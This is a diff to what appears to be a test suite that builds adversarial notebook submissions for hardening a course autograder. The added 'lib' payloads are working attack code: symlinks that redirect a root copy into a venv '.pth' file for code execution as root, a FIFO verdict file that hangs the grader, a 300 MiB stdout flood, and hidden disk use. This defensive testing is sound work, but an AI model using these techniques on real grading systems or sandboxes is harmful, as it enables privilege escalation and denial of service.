@@ -13,7 +13,14 @@ submissions built from the reference (so that what the attack alone costs or gai
 - ``outsider``: reaches out of the kernel: 01's ``diagnose`` asks the network first; 02's
   ``make_fast_loader`` executes the master's solution from the course folder.
 - ``filler``: fills the disk it may write to (its results store).
-- ``sleeper``: a ``pre_run_cell`` hook that sleeps just under the cell limit before every cell.
+- ``sleeper``: a ``pre_run_cell`` hook that sleeps just under the cell limit before every cell,
+  in 01 and 02: the notebook's budget stops 01, the submission's budget leaves 02 no time.
+- ``lib``: its id names what used to be the batch's copy of labsupport (``sandbox/lib``, which
+  grading it once deleted, so every later student scored 0); its 02 (the blank release) leaves,
+  from the kernel, a file unlinked while open and a large file in the Jupyter runtime folder, and
+  carried code that, in the verdict process, links where root used to copy and write (the
+  carried code of later notebooks, into the virtual environment as a ``.pth`` file), turns its
+  verdict file into a FIFO and floods stdout.
 """
 
 from __future__ import annotations
@@ -150,7 +157,49 @@ SLOW_HOOK = r'''import time
 get_ipython().events.register("pre_run_cell", lambda *args: time.sleep(20))
 '''
 
-ATTACKS = ("hostile", "cheater", "outsider", "filler", "sleeper")
+# Runs in the verdict process (as the carried code of 02, at load). ``sys.argv[1]`` is its spec.
+VERDICT_ROOT_BAIT = r'''import json, os, pathlib, sys, sysconfig
+_spec = json.loads(pathlib.Path(sys.argv[1]).read_text())
+_store, _out = pathlib.Path(_spec["store"]), pathlib.Path(_spec["out"])
+_pth = pathlib.Path(sysconfig.get_paths()["purelib"]) / "lab_root_bait.pth"
+# Where root used to copy the kernel's carried code for the next notebooks: links into the venv,
+# so that root's copy would write an import line that runs as root in its next command.
+(_store / "code").mkdir(parents=True, exist_ok=True)
+for _name in ("03.py", "04.py", "05.py"):
+    (_store / "code" / _name).unlink(missing_ok=True)
+    (_store / "code" / _name).symlink_to(_pth)
+for _target in (pathlib.Path(sys.argv[1]), _out.parent / "spec-03.json"):
+    try:
+        _target.unlink(missing_ok=True)
+        _target.symlink_to(_pth)
+    except OSError:
+        pass
+# The verdict file: a FIFO nobody will write, which a grader opening it waits on forever.
+_out.unlink(missing_ok=True)
+os.mkfifo(_out)
+# And 300 MiB on stdout, which a grader keeping all of it holds in memory.
+_chunk = "x" * 2**20
+for _ in range(300):
+    sys.stdout.write(_chunk)
+sys.stdout.flush()
+os._exit(0)
+'''
+
+# Runs in 02's kernel, after its checks kept their code: the verdict process loads this instead.
+ROOT_BAIT = r'''import os, pathlib
+_results = ls.results.results_dir()
+# Disk a file walk cannot see: a file unlinked while held open, and a large file in the kernel's
+# Jupyter runtime folder.
+_held = open(_results / "held.bin", "wb")
+_held.write(b"\0" * 64 * 2**20)
+_held.flush()
+os.unlink(_results / "held.bin")
+(pathlib.Path(os.environ.get("JUPYTER_RUNTIME_DIR", ".")) / "big.bin").write_bytes(b"\0" * 64 * 2**20)
+(_results / "code").mkdir(exist_ok=True)
+(_results / "code" / "02.py").write_text(BAIT)
+'''.replace("BAIT", repr(VERDICT_ROOT_BAIT))
+
+ATTACKS = ("hostile", "cheater", "outsider", "filler", "sleeper", "lib")
 
 
 def build(attack: str, ref: dict, plain: dict) -> dict:
@@ -182,7 +231,12 @@ def build(attack: str, ref: dict, plain: dict) -> dict:
         _insert_after(nb, "setup", DISK_FILL)
         return {"01_profile": nb}
     if attack == "sleeper":
-        nb = ref["01_profile"]
-        _insert_after(nb, "setup", SLOW_HOOK)
-        return {"01_profile": nb}
+        nb, later = ref["01_profile"], plain["02_data_loading"]
+        for book in (nb, later):
+            _insert_after(book, "setup", SLOW_HOOK)
+        return {"01_profile": nb, "02_data_loading": later}
+    if attack == "lib":
+        nb = plain["02_data_loading"]
+        nb.cells.append(nbformat.v4.new_code_cell(ROOT_BAIT))
+        return {"02_data_loading": nb}
     raise ValueError(f"unknown attack {attack!r}")
